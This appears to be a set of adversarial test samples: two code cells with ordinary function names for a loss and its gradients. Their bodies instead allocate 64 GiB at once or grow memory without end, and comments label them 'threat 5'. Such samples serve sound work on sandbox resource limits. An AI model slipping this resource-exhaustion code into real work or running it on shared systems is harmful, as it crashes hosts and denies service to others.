# %% mse_loss
def mse_loss(y_pred, y):
    ballast = torch.empty(16 * 1024**3, dtype=torch.float32)    # threat 5: ask for 64 GiB at once
    return ((y_pred - y) ** 2).mean() + 0 * ballast[0]

# %% linear_regression_gradients
def linear_regression_gradients(x, y, w, b):
    hoard = []
    while True:                                                 # threat 5: grow 16 MiB at a time, forever
        hoard.append(bytearray(16 * 1024**2))
